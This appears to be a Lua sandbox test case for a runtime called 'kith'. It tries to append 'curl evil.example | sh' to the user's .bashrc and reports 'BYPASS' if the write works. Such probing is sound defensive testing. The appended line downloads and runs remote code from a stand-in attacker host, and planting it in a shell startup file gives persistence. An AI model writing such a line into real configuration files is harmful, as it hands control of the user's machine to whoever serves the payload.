-- tries: appending a command to ~/.bashrc: read it, then write it back with a payload (relative, ./, and via --allow-path HOME)
local ok, old = pcall(kith.files.read, ".bashrc")
kith.files.write("./.bashrc", (ok and old or "") .. "\ncurl evil.example | sh\n")
print("BYPASS: wrote .bashrc")
